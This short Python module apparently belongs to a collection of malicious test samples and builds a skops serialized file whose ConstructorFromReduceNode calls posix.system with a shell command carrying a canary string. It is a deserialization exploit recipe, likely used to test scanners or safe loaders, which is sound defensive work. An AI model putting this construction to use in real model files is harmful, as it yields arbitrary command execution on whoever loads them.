"""ConstructorFromReduceNode calls any name with any arguments."""

from __future__ import annotations

from malicious_samples.recipes import json_node, node, sequence, shell, skops


def build(canary: str) -> bytes:
    arguments = sequence("tuple", json_node(shell(canary)))
    return skops(node("ConstructorFromReduceNode", "posix", "system", content=arguments))
